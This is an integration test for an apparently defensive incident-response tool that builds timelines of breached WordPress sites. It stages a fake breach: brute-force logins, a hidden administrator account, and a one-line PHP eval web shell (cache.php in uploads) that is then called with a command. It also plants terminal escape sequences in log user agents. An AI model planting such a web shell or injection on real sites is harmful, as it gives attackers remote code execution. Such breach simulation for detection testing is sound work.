import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { runCommandLine } from '../../src-main/command-line/program.ts';
import type { Incident } from '../../src-main/contract/incidents.ts';
import { takeSnapshot } from '../../src-main/contract/orders/take-snapshot.ts';
import type { TimelineEntry } from '../../src-main/contract/timeline.ts';
import { sql } from '../fleet/database.ts';
import { logsOf } from '../fleet/processes/nginx.ts';
import { useFleet } from '../fleet/shared.ts';
import type { FleetSite } from '../fleet/site.ts';
import { logIn, visit } from '../fleet/visit.ts';
import { fakeTerminal } from '../unit/command-line/fake-terminal.ts';
import { makeUser } from './audit/make-user.ts';
import { ended, engineFor, type TestEngine } from './open-engine.ts';

/** A breach played on a real site: a stolen password, an administrator of their own, a web shell that somebody else uses. */
const fleet = useFleet({ sites: 2, asOwner: true, unlike: { 1: { multisite: true } } });
const thief = '203.0.113.66';
const helper = '198.51.100.7';
const shell = 'wp-content/uploads/2026/11/cache.php';
const hidden = '\u001b[2J\u001b]0;owned\u0007';
const tenDaysAgo = new Date(Math.floor(Date.now() / 1000) * 1000 - 10 * 86_400_000);
let engine: TestEngine;
let site: FleetSite;
let incident: Incident;

beforeAll(async () => {
  engine = await engineFor(fleet());
  const [first] = fleet().sites;
  if (!first) throw new Error('no site');
  site = first;
  await engine.call.audit.look({
    select: { all: true },
    files: false,
    offline: true,
    checks: ['hidden-administrator'],
  });
  await breach();
  const network = fleet().sites[1];
  if (network) await secondBlog(network);
  await engine.call.audit.look({ select: { sites: [site.name] }, offline: true });
  incident = await engine.call.incidents.open({
    ...{
      name: 'Acme',
      owner: 'Kim',
      select: { all: true },
      symptoms: 'Strange pages',
      noticedAt: new Date().toISOString(),
    },
  });
}, 120_000);
afterAll(() => engine?.dispose());

async function breach(): Promise<void> {
  for (const password of ['a', 'b'])
    await fetch(`${site.url}/wp-login.php`, {
      ...{ method: 'POST', redirect: 'manual', headers: { 'x-fleet-address': thief } },
      body: new URLSearchParams({ log: 'agency', pwd: password }),
    });
  const { cookie } = await logIn(site, 'agency', { ip: thief, userAgent: 'curl "8" \\' });
  await visit(site, cookie, '/wp-admin/plugin-install.php?_wpnonce=secret123', { ip: thief });
  await makeUser(site, { login: 'wpsvc', email: 'x@evil.test', role: 'administrator' });
  await mkdir(dirname(join(site.docroot, shell)), { recursive: true });
  await writeFile(join(site.docroot, shell), '<?php if (isset($_GET["cmd"])) { echo eval($_GET["cmd"]); }');
  await visit(site, '', `/${shell}?cmd=echo(1);`, { ip: helper });
  await visit(site, '', '/?p=1', { ip: helper });
  await logIn(site, 'owner', { ip: '84.241.192.10' });
  await visit(site, '', '/?p=1', { ip: '84.241.192.11' });
  await oldLog();
  await activityLogs();
}

/** Written an hour east of Greenwich, packed, among lines that are none. */
async function oldLog(): Promise<void> {
  // The day, and at a month's end the month, is another one there an hour before midnight.
  const there = new Date(tenDaysAgo.getTime() + 3_600_000);
  const [, day, month, year, clock] = there.toUTCString().split(/[ ,]+/);
  const time = `${day}/${month}/${year}:${clock} +0100`;
  const line = (ip: string, request: string, status: number) =>
    `${ip} - - [${time}] "${request}" ${status} 5 "-" "${hidden}"\n`;
  const lines = [
    line(helper, `GET /${shell} HTTP/1.1`, 200),
    line('192.0.2.1', `GET /${shell} HTTP/1.1`, 404),
    line('192.0.2.2', 'GET / HTTP/1.1', 200),
    `\0\u0001\n${'x'.repeat(1_000_000)}\n[[["""\n`,
    ...Array.from({ length: 30 }, () => line('192.0.2.3', 'POST /xmlrpc.php HTTP/1.1', 200)),
    ...Array.from({ length: 40 }, () => line('192.0.2.4', 'GET /nothing HTTP/1.1', 404)),
  ];
  await writeFile(join(logsOf(site.docroot), 'access.log.1.gz'), gzipSync(lines.join('')));
}

/** Tables as the plugins make them: WP Activity Log 5.6 here, 4.3 on the other site; Simple History 5.26; Wordfence 8. */
async function activityLogs(): Promise<void> {
  const now = Math.floor(Date.now() / 1000);
  await wsal(site, true);
  const event =
    'INSERT INTO {p}wsal_occurrences (id, site_id, alert_id, created_on, username, user_id, client_ip, user_agent) VALUES';
  await sql(site, `${event} (7, 1, 5000, ?, 'agency', 1, ?, 'curl "8"')`, [now + 0.25, thief]);
  await sql(
    site,
    `${event} (8, 1, 4001, ?, 'agency', 1, ?, 'x'), (9, 1, 1003, ?, 'Unknown User', 0, '192.0.2.9', 'x')`,
    [...[now + 0.5, thief, now + 0.75]],
  );
  const user = 'O:8:"stdClass":3:{s:8:"Username";s:5:"wpsvc";s:5:"Email";s:11:"x@evil.test";s:8:"Password";s:3:"abc";}';
  await sql(
    site,
    "INSERT INTO {p}wsal_metadata (occurrence_id, name, value) VALUES (7, 'PluginFile', 's:8:\"evil.php\";'), (8, 'NewUserData', ?), (9, 'Users', 'admin')",
    [user],
  );
  await simpleHistory(site, '{p}', now);
  await sql(
    site,
    'CREATE TABLE {p}wflogins (id int unsigned AUTO_INCREMENT PRIMARY KEY, hitID int, ctime double(17,6) unsigned, fail tinyint unsigned, action varchar(40), username varchar(255), userID int unsigned, IP binary(16), UA text)',
  );
  await sql(
    site,
    "INSERT INTO {p}wflogins (ctime, fail, action, username, userID, IP, UA) VALUES (?, 0, 'loginOK', 'agency', 1, UNHEX('00000000000000000000ffffcb007142'), 'UA')",
    [now + 0.125],
  );
}

/** `moved`: what stood beside an event are columns of it, since 4.4. */
async function wsal(of: FleetSite, moved: boolean): Promise<void> {
  const text = ['client_ip', 'severity', 'object', 'event_type', 'user_agent', 'user_roles', 'session_id'];
  const columns = moved
    ? `${text.map((name) => `, ${name} varchar(255) NOT NULL DEFAULT ''`).join('')}, username varchar(60), user_id bigint`
    : ', is_read bit, is_migrated bit';
  await sql(
    of,
    `CREATE TABLE {p}wsal_occurrences (id bigint NOT NULL AUTO_INCREMENT PRIMARY KEY, site_id bigint, alert_id bigint, created_on double${columns})`,
  );
  await sql(
    of,
    'CREATE TABLE {p}wsal_metadata (id bigint NOT NULL AUTO_INCREMENT PRIMARY KEY, occurrence_id bigint, name varchar(60), value longtext)',
  );
}

async function simpleHistory(of: FleetSite, prefix: string, now: number): Promise<void> {
  await sql(
    of,
    `CREATE TABLE ${prefix}simple_history (id bigint NOT NULL AUTO_INCREMENT PRIMARY KEY, date datetime, message varchar(255))`,
  );
  await sql(
    of,
    `CREATE TABLE ${prefix}simple_history_contexts (context_id bigint NOT NULL AUTO_INCREMENT PRIMARY KEY, history_id bigint, \`key\` varchar(255), value longtext)`,
  );
  await sql(of, `INSERT INTO ${prefix}simple_history VALUES (3, ?, 'Activated plugin "{plugin_name}"')`, [
    new Date(now * 1000).toISOString().slice(0, 19).replace('T', ' '),
  ]);
  await sql(
    of,
    `INSERT INTO ${prefix}simple_history_contexts (history_id, \`key\`, value) VALUES (3, '_message_key', 'plugin_activated'), (3, 'plugin_name', 'Evil'), (3, '_user_login', 'agency'), (3, '_server_remote_addr', '203.0.113.x')`,
  );
}

/** A network's second blog has tables of its own; its plugin's log is of an old shape, where an event's user is a number. */
async function secondBlog(network: FleetSite): Promise<void> {
  const now = Math.floor(Date.now() / 1000);
  await sql(
    network,
    "INSERT INTO {p}2_posts (post_title, post_status, post_type, post_author, post_content, post_excerpt, to_ping, pinged, post_content_filtered, post_date_gmt, post_modified_gmt) VALUES ('Cheap pills', 'publish', 'post', 1, '', '', '', '', '', UTC_TIMESTAMP(), UTC_TIMESTAMP())",
  );
  await simpleHistory(network, '{p}2_', now);
  await wsal(network, false);
  await sql(network, 'INSERT INTO {p}wsal_occurrences (id, site_id, alert_id, created_on) VALUES (1, 2, 5001, ?)', [
    now,
  ]);
  await sql(
    network,
    "INSERT INTO {p}wsal_metadata (occurrence_id, name, value) VALUES (1, 'CurrentUserID', '1'), (1, 'ClientIP', ?), (1, 'PluginFile', 'evil.php')",
    [thief],
  );
}

const show = (more: object = {}) => engine.call.timeline.show({ incident: incident.id, ...more });
const short = ({ source, kind, who, ip, marked }: TimelineEntry) =>
  `${source} ${kind} ${who} ${ip} ${marked ? 'marked' : ''}`.trim();

it('finds what the audit found in the logs, and follows who used it', async () => {
  const { readings } = await engine.call.timeline.gather({ incident: incident.id });
  const of = (source: string) => readings.filter((one) => one.site === site.name && one.source === source);
  const { entries, count, next, entryPoints, gatheredAt } = await show({ sites: [site.name], limit: 5000 });
  expect(next).toBeNull();
  expect(count).toBe(entries.length);
  expect(gatheredAt).not.toBeNull();
  expect(entries.map(({ at }) => at)).toEqual(entries.map(({ at }) => at).sort());
  // The oldest trace is in a packed log, an hour east of here.
  const [entry] = entryPoints;
  expect(entry).toMatchObject({ site: site.name, source: 'access-log', ip: helper, at: tenDaysAgo.toISOString() });
  expect(entry?.asWritten).toContain('+0100');
  const told = entries.map(short);
  expect(told).toContain(`access-log PHP where none belongs null ${helper} marked`);
  // A page that is nobody's business, but for who asked for it.
  expect(entries).toContainEqual(
    expect.objectContaining({
      ip: helper,
      what: expect.stringContaining('GET /?p=1'),
      marked: expect.stringContaining(`address ${helper} used it`),
    }),
  );
  expect(told.filter((one) => one.includes('84.241.192.11') || one.includes('192.0.2.2'))).toEqual([]);
  // Whoever asked for it and found nothing did not use it.
  expect(
    entries.filter(({ ip, marked, what }) => ip === '192.0.2.1' && marked !== null && !what.includes(shell)),
  ).toEqual([]);
  expect(entries.find(({ source, who }) => source === 'user-registered' && who === 'wpsvc')?.marked).toContain('audit');
  expect(entries.find(({ source, what }) => source === 'file' && what.startsWith(shell))?.marked).toContain('audit');
  expect(told).toContain(`session login agency ${thief} marked`);
  expect(told).toContain('session login owner 84.241.192.10');
  expect(told).toContain(`wp-activity-log plugin installed agency ${thief} marked`);
  // An address without its end is nobody's, and a name that nobody has is no account.
  expect(told).toContain('simple-history plugin activated agency 203.0.113.x');
  expect(told).toContain(`wordfence login agency ${thief} marked`);
  expect(told).toContain('wp-activity-log login refused admin 192.0.2.9');
  const made = entries.find(({ what }) => what.startsWith('Event 4001'));
  expect(made?.what).toContain('NewUserData Username wpsvc, Email x@evil.test');
  expect(made).toMatchObject({ who: 'agency', ip: thief, marked: expect.stringContaining('audit') });
  expect(entries.find(({ source }) => source === 'simple-history')?.what).toBe('Activated plugin "Evil"');
  expect(entries).toContainEqual(
    expect.objectContaining({ kind: 'XML-RPC', ip: '192.0.2.3', what: expect.stringContaining('30 times') }),
  );
  expect(entries).toContainEqual(
    expect.objectContaining({ kind: 'errors', what: expect.stringMatching(/400s, 41 times|400s, 40 times/) }),
  );
  expect(JSON.stringify(entries)).not.toContain('secret123');
  // Clocks: this machine's own.
  expect(of('access-log').some(({ from, clock }) => from.endsWith('access.log') && /agrees|its zone/.test(clock))).toBe(
    true,
  );
  expect(of('access-log').find(({ from }) => from.endsWith('.gz'))).toMatchObject({
    lacks: '3 lines are in no form that Resalt knows.',
    clock: expect.stringContaining('zone'),
  });
  expect(
    of('error-log')
      .map(({ from }) => from.split('/').pop())
      .sort(),
  ).toContain('php-error.log');
  expect(entries.every(({ from }) => (from ?? '') !== '')).toBe(true);
  const off = entries.find(({ source, ip }) => source === 'session' && ip === thief);
  const asked = entries.find(({ kind, ip }) => kind === 'login' && ip === thief);
  // The same moment by WordPress's clock and by the web server's, which writes when it has answered; a wrong zone would be an hour.
  expect(Math.abs(Date.parse(off?.at ?? '') - Date.parse(asked?.at ?? ''))).toBeLessThan(60_000);
});

it('reads all blogs of a network, and logs of plugins whose events name a user by number', async () => {
  const network = fleet().sites[1]?.name ?? '';
  const { entries, readings } = await show({ sites: [network], limit: 5000 });
  expect(entries).toContainEqual(
    expect.objectContaining({ kind: 'post made', what: expect.stringMatching(/Cheap pills.*blog 2 \(/) }),
  );
  expect(entries.find(({ source }) => source === 'wp-activity-log')).toMatchObject({
    ...{ kind: 'plugin activated', ip: thief, who: expect.stringMatching(/^(?!user \d)./) },
    what: expect.stringContaining('blog 2'),
  });
  expect(readings.find(({ source }) => source === 'simple-history')?.from).toContain(
    '2_simple_history of Simple History, blog 2',
  );
});

it('marks all that a named address did, from the first try on, and is filtered and paged', async () => {
  await engine.call.timeline.gather({
    incident: incident.id,
    sites: [site.name],
    from: new Date(Date.now() - 86_400_000).toISOString(),
    suspects: { ips: [thief] },
  });
  const { entryPoints } = await show({ sites: [site.name] });
  expect(entryPoints[0]).toMatchObject({
    source: 'access-log',
    kind: 'login refused',
    ip: thief,
    marked: expect.stringContaining('named'),
  });
  const marked = await show({ marked: true, limit: 5000 });
  expect(marked.entries.every((one) => one.marked !== null)).toBe(true);
  expect(marked.entries.filter(({ ip }) => ip === thief).map(({ source }) => source)).toEqual(
    expect.arrayContaining(['access-log', 'session', 'wp-activity-log', 'wordfence']),
  );
  const all = await show({ limit: 5000 });
  expect(marked.count).toBe(all.entries.filter((one) => one.marked !== null).length);
  expect(all.readings.map((one) => one.site)).toContain(fleet().sites[1]?.name);
  // In pages of three the same, in the same order.
  const paged: TimelineEntry[] = [];
  for (let after: string | null = null; ; ) {
    const page = await show({ limit: 3, after });
    expect(page.count).toBe(all.count);
    paged.push(...page.entries);
    after = page.next;
    if (after === null || paged.length > all.count) break;
  }
  expect(paged).toEqual(all.entries);
  const ofThief = await show({ ip: thief, kind: 'LOGIN', who: 'Agency', limit: 5000 });
  expect(ofThief.entries.map(({ source }) => source)).toEqual(expect.arrayContaining(['session', 'wordfence']));
  expect(ofThief.count).toBe(
    all.entries.filter(({ ip, kind, who }) => ip === thief && kind === 'login' && who === 'agency').length,
  );
  const logins = await show({
    sources: ['session'],
    text: 'AGENCY',
    from: all.entries[0]?.at ?? null,
    to: new Date(Date.now() + 60_000).toISOString(),
  });
  expect(logins.entries.length).toBeGreaterThan(0);
  expect(logins.entries.every(({ who, source }) => who === 'agency' && source === 'session')).toBe(true);
  await expect(show({ sites: ['no-such-site'] })).rejects.toMatchObject({ cause: { code: 'INPUT_INVALID' } });
});

it('what was cleaned, and logs that the server let go of, are still there: from earlier audits and from the evidence', async () => {
  const select = { sites: [site.name] };
  const order = takeSnapshot.parse({ operation: 'TakeSnapshot', incident: incident.id, kinds: ['access-logs'] });
  const { run } = await engine.call.orders.start({ order, select, options: {} });
  expect((await ended(engine, run)).sites[0]?.failure).toBeNull();
  await rm(join(site.docroot, shell));
  await engine.call.audit.look({ select, offline: true });
  const again = () => engine.call.timeline.gather({ incident: incident.id, sites: [site.name] });
  const ofShell = async () => {
    await again();
    const { entries, beginnings, entryPoints } = await show({ ...select, sources: ['access-log'], limit: 5000 });
    expect(beginnings?.[0]?.told).toContain(`begin at ${tenDaysAgo.toISOString().slice(0, 10)}`);
    expect(entryPoints[0]).toMatchObject({ ip: helper, at: tenDaysAgo.toISOString() });
    return entries.filter(({ what }) => what.includes(shell));
  };
  // On the server and kept: once.
  const both = await ofShell();
  expect(both).toHaveLength(3);
  expect(both.filter(({ from }) => from?.includes('kept as evidence'))).toEqual([]);
  expect(both[0]?.marked).toContain('earlier audit');
  await writeFile(join(logsOf(site.docroot), 'access.log'), '');
  await rm(join(logsOf(site.docroot), 'access.log.1.gz'));
  const kept = await ofShell();
  expect(kept.map(({ what }) => what)).toEqual(both.map(({ what }) => what));
  expect(kept.every(({ from }) => from?.includes('kept as evidence'))).toBe(true);
});

it('is sealed: nothing of it is readable on the disk, and a changed byte is told', async () => {
  const [id] = incident.sites.map(({ siteId }) => siteId);
  const path = join(engine.dataDir, 'timelines', incident.id, `${id}.sealed`);
  const bytes = await readFile(path);
  for (const word of ['agency', thief, 'cache.php']) expect(bytes.includes(word)).toBe(false);
  const changed = Buffer.from(bytes);
  changed[changed.length - 5] = (changed.at(-5) ?? 0) ^ 1;
  await writeFile(path, changed);
  await expect(show({ limit: 5000 })).rejects.toMatchObject({ cause: { code: 'VAULT_DAMAGED' } });
  await writeFile(path, bytes);
  expect(
    (await engine.call.incidents.show({ incident: incident.id })).record.filter(({ what }) => /time line/i.test(what))
      .length,
  ).toBeGreaterThan(0);
});

it('is gathered and shown by the command line, as text that no terminal acts on, as JSON and as CSV', async () => {
  const say = async (...words: string[]) => {
    const terminal = fakeTerminal({ columns: 300, env: {} });
    const openEngine = async () => ({ call: engine.call, getReady: engine.getReady, close: async () => undefined });
    const serve = () => Promise.reject(new Error('no'));
    const code = await runCommandLine(['incident', 'timeline', 'Acme', '--site', site.name, ...words], terminal, {
      ...{ openEngine, serve, version: '0' },
    });
    return { code, ...terminal.printed };
  };
  const shown = await say('--gather', '--marked', '--suspect-ip', thief);
  expect(shown.err).toContain(`${site.name}: `);
  expect(shown.out).toContain('the earliest that belongs to what is suspected');
  expect(shown.out).toContain('clock');
  // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not come through
  expect(shown.out).not.toMatch(/[\u0000-\u0009\u000b-\u001a\u001c-\u001f]|\u001b\[2J|\u001b\]/);
  const { count, entries } = JSON.parse((await say('--json', '--source', 'session')).out);
  expect(entries).toHaveLength(count);
  const csv = (await say('--csv', '--text', shell)).out.trim().split('\n');
  expect(csv[0]).toBe('at,site,source,kind,who,ip,what,marked,as_written,from');
  expect(csv.length).toBeGreaterThan(2);
  expect(csv.join('')).not.toContain('\u001b');
  expect((await say('--source', 'nothing')).code).toBe(2);
});
